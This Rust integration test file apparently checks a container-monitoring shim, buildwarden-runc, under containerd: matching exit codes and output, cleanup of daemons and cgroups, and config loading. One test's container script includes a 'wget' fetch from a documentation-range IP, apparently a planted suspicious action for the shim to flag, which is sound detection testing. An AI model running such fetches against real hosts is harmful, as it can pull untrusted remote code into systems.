//! containerd with the shim as the runtime of one container.

use crate::harness::{Containerd, Dir, Release, rootfs, run, until};
use buildwarden::host::cgroup2_mount;
use std::{fs, path::Path};

#[test]
fn root_containerd_runs_the_shim() {
    let dir = Dir::new();
    runs_the_shim(&dir, Release::installed());
}

#[test]
fn root_next_containerd_runs_the_shim() {
    let dir = Dir::new();
    runs_the_shim(&dir, Release::next(&dir));
}

fn runs_the_shim(dir: &Dir, release: Release) {
    let containerd = Containerd::of(dir, release);
    let rootfs = rootfs(dir);
    let shim = dir.shim("buildwarden-runc");
    let script = "echo out; echo err >&2; wget http://198.51.100.34/x; exit 5";
    let ctr = |options: &[&str], id: &str| {
        containerd.run(&[options, &["--rm"]].concat(), &rootfs, id, &["-c", script])
    };
    let traced = ctr(&["--runc-binary", &shim.display().to_string()], "traced");
    let plain = ctr(&[], "plain");
    assert_eq!(
        (traced.code, traced.stdout(), traced.stderr()),
        (plain.code, plain.stdout(), plain.stderr())
    );
    assert_eq!(plain.code, 5, "{plain}");
    let report = dir.report("traced");
    assert_eq!(report.findings.len(), 1);
    assert_eq!(report.container.engine.as_deref(), Some("containerd"));
    assert_eq!(report.completeness.reasons, [""; 0]);
    assert_eq!(dir.runs(), ["traced"]);
    dir.expect_nothing_live();
}

#[test]
fn root_containerd_leaves_nothing_that_runs() {
    let dir = Dir::new();
    for release in [Release::installed(), Release::next(&dir)] {
        let root = dir.path("containerd");
        let containerd = Containerd::of(&dir, release);
        let rootfs = rootfs(&dir);
        for id in ["one", "two"] {
            // All daemons of a machine have one directory of ids.
            let id = &format!("{}.{id}", dir.name());
            let cgroup = format!("/{}.{id}", dir.name());
            let run = ["run", "--detach", "--cgroup", &cgroup, "--env", "PATH=/bin", "--rootfs"];
            let script = [rootfs.to_str().unwrap(), id, "/bin/sh", "-c", "sleep 600"];
            containerd.ctr(&[&run[..], &script].concat()).expect_code(0);
        }
        // The daemon and the shims of both are told its socket.
        assert!(processes_about(&root).len() > 2, "{:?}", processes_about(&root));
        drop(containerd);
        until("no shim", || processes_about(&root).is_empty().then_some(()));
        for id in ["one", "two"] {
            let cgroup = format!("{0}.{0}.{id}", dir.name());
            assert!(!cgroup2_mount().unwrap().join(cgroup).exists());
        }
        fs::remove_dir_all(root).unwrap();
    }
}

/// The command lines of what names a path in them.
fn processes_about(path: &Path) -> Vec<String> {
    let processes = fs::read_dir("/proc").unwrap().flatten();
    let lines = processes.filter_map(|process| fs::read(process.path().join("cmdline")).ok());
    let lines = lines.map(|line| String::from_utf8_lossy(&line).replace('\0', " "));
    lines.filter(|line| line.contains(path.to_str().unwrap())).collect()
}

#[test]
fn root_containerd_takes_the_documented_configuration() {
    let dir = Dir::new();
    let next = Release::next(&dir);
    for (release, file, quote) in
        [(Release::installed(), "config-v2.toml", '"'), (next, "config-v3.toml", '\'')]
    {
        let hooks = Path::new(env!("CARGO_MANIFEST_DIR")).join("hooks/containerd");
        fs::copy(hooks.join(file), dir.path(file)).unwrap();
        let mut command = release.command("containerd");
        command.arg("--config").arg(dir.path(file)).args(["config", "dump"]);
        let dump = run(&mut command).expect_code(0).stdout();
        for (key, value) in
            [("default_runtime_name", "buildwarden"), ("BinaryName", "/usr/bin/buildwarden-runc")]
        {
            assert!(dump.contains(&format!("{key} = {quote}{value}{quote}")), "{file}: {dump}");
        }
    }
}
